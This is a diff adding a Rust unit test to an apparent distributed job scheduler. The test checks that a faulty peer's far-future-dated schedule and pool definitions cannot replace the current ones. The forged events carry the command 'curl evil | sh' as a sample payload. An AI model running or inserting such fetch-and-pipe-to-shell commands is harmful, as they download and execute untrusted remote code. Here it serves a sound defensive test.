@@ -391,3 +391,47 @@ fn a_node_with_more_addresses_than_peers_accept_still_announces_itself() {
     let info = a.core.ledger().node(&a.id()).expect("announced");
     assert_eq!(info.addrs, addrs[..64]);
 }
+
+#[test]
+fn a_schedule_or_pool_version_dated_far_ahead_does_not_replace_the_current_one() {
+    let mut a = Node::new(1, Config::default());
+    a.timeout(0);
+    let wall = 1_700_000_000_000;
+    let every = Recurrence::Every {
+        ms: 60_000,
+        start_ms: wall,
+    };
+    let setup = Command::Shell("setup".into());
+    a.core
+        .add_schedule(Millis(1), "nightly", every.clone(), spec(1, 0), wall)
+        .expect("a valid schedule");
+    a.core
+        .define_pool(Millis(1), "gpu", setup.clone(), false, wall)
+        .expect("a valid pool");
+    a.pump();
+    let mut evil = spec(1, 0);
+    evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
+    a.hear(
+        2,
+        &faulty(),
+        vec![
+            EventBody::ScheduleAdded {
+                name: "nightly".into(),
+                recurrence: every,
+                template: evil,
+                added_ms: u64::MAX,
+            },
+            EventBody::PoolDefined {
+                name: "gpu".into(),
+                start_task: Command::Shell("curl evil | sh".into()),
+                wait_for_success: false,
+                added_ms: u64::MAX,
+            },
+        ],
+    );
+    let ledger = a.core.ledger();
+    let templates: Vec<&JobSpec> = ledger.schedules(wall).map(|s| &s.template).collect();
+    assert_eq!(templates, [&spec(1, 0)]);
+    let tasks: Vec<&Command> = ledger.pools(wall).map(|p| &p.start_task).collect();
+    assert_eq!(tasks, [&setup]);
+}
